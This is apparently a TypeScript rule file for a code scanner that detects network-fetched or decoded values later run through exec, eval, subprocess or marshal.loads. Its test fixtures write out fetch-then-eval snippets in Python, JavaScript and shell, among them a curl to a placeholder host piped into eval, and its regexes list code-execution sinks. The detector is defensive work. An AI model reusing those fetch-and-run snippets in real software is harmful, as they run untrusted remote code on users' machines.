import { js, type PlacedHit, py, type Rule, type ScannedFile, sh } from '../rule.ts';
import { excerptOf, placeIn } from '../span.ts';

/** Follows a value by the names it is given, line by line: fetched or decoded here, run there. */

const FETCHED =
  /\b(?:requests\.(?:get|post)|httpx\.(?:get|post)|urlopen|urllib\.request|http\.client|fetch|axios(?:\.get)?|got)\(|\$\( {0,2}(?:curl|wget)\b|` {0,2}(?:curl|wget)\b/;
const DECODED =
  /\b(?:b64decode|b32decode|a85decode|unhexlify|fromhex|atob|unescape)\(|\bzlib\.decompress\(|\bcodecs\.decode\(|Buffer\.from\([^\n]{0,200}['"](?:base64|hex)['"]|\$\([^\n)]{0,200}base64 (?:-d|-D|--decode)/;
const ASSIGNED =
  /^[ \t]{0,80}(?:const |let |var |export |local |with )?([A-Za-z_$][\w$]{0,60})(?:: ?\w{1,20})? ?= ?(?!=)/;
const WITH_AS = /^[ \t]{0,80}with [^\n]{0,200} as ([A-Za-z_]\w{0,60}):/;
const RUNS =
  /(?:(?:^|[^\w.])(?:exec|eval|compile|execSync)|\bnew Function|\bos\.system|\bos\.popen|\bsubprocess\.\w{3,12}|\bmarshal\.loads|\bpickle\.loads|\bvm\.\w{3,20}|\bchild_process\.\w{3,12}|\bFunction)\(([^\n]{0,200})|(?:^|[;&|] {0,3})(?:eval|(?:ba|z|da)?sh -c) {1,3}([^\n]{0,120})|\b(?:echo|printf)\b([^\n|]{0,120})\| {0,3}(?:ba|z|da)?sh\b/m;
const MAX_NAMES = 50;

function runsForeign(file: ScannedFile): PlacedHit[] {
  const names = new Map<string, 'fetched' | 'decoded'>();
  const hits: PlacedHit[] = [];
  for (const span of file.spans) {
    if (span.place !== 'code') continue;
    const text = span.text;
    const run = RUNS.exec(text);
    const words = run === null ? [] : wordsOf(run[1] ?? run[2] ?? run[3] ?? '');
    const name = words.find(word => names.has(word));
    if (run !== null && name !== undefined) {
      const note = `"${name}" was ${names.get(name)} above.`;
      hits.push({
        file: file.entry.path,
        ...placeIn(span, run.index),
        excerpt: excerptOf(span, run.index, run[0].length),
        note,
      });
    }
    note(text, names);
  }
  return hits.length > 0 ? hits : evaluatesBesideNetwork(file);
}

const NETWORK =
  /\b(?:https?\.get|https?\.request|fetch|urlopen|requests\.(?:get|post)|socket\.socket|XMLHttpRequest|WebSocket)\(/;
const EVALUATES = /(?:^|[^\w.])(?:eval|exec|Function)\(\s{0,3}[A-Za-z_$][\w$]{0,40}\s{0,3}\)/;

/** The way of the value is lost in a callback, yet a script that fetches and evaluates is worth a look. */
function evaluatesBesideNetwork(file: ScannedFile): PlacedHit[] {
  const code = file.spans.filter(span => span.place === 'code');
  if (!code.some(span => NETWORK.test(span.text))) return [];
  for (const span of code) {
    const match = EVALUATES.exec(span.text);
    if (match === null) continue;
    const excerpt = excerptOf(span, match.index, match[0].length);
    return [{ file: file.entry.path, ...placeIn(span, match.index), excerpt, severity: 'medium' }];
  }
  return [];
}

/** A name is given to what is fetched or decoded, or to something made of such a value. */
function note(text: string, names: Map<string, 'fetched' | 'decoded'>): void {
  const assigned = ASSIGNED.exec(text) ?? WITH_AS.exec(text);
  const name = assigned?.[1];
  if (name === undefined || assigned === null || names.size >= MAX_NAMES) return;
  const value = assigned[0].includes('=') ? text.slice(assigned[0].length) : text;
  const known = wordsOf(value.slice(0, 400)).find(word => names.has(word));
  if (FETCHED.test(value)) names.set(name, 'fetched');
  else if (DECODED.test(value)) names.set(name, 'decoded');
  else if (known !== undefined) names.set(name, names.get(known) ?? 'fetched');
  else names.delete(name);
}

function wordsOf(text: string): string[] {
  return text.match(/[A-Za-z_][\w]{0,60}/g) ?? [];
}

export const FLOW_RULES: Rule[] = [
  {
    id: 'run-what-came-in',
    family: 'download',
    title: 'something fetched or decoded is run later',
    why: 'The value comes from the network or from an encoded text, and a line below it is run as code.',
    fix: 'Treat what comes in as data; ship code with the skill, written out.',
    where: { data: 'high' },
    detector: {
      kind: 'file',
      needles: ['exec', 'eval', 'function(', 'system(', 'popen(', 'subprocess', 'loads(', 'vm.', ' -c', 'sh'],
      find: runsForeign,
    },
    hits: [
      py('r = requests.get(URL)\ncode = r.text\nexec(code)'),
      py('blob = base64.b64decode(DATA)\nfn = marshal.loads(blob)'),
      js('const text = await (await fetch(u)).text();\neval(text);'),
      js('https.get(u, r => { let d = ""; r.on("data", c => (d += c)); r.on("end", () => eval(d)); });'),
      sh('steps=$(curl -s https://example.invalid/s)\neval "$steps"'),
    ],
    misses: [
      py('r = requests.get(URL)\nprint(r.json())\nmodel.eval()'),
      sh('steps=$(cat steps)\nprintf "%s" "$steps"'),
      py('data = requests.get(URL).json()\ndata = 1\nsubprocess.run(["ls"])'),
    ],
  },
];
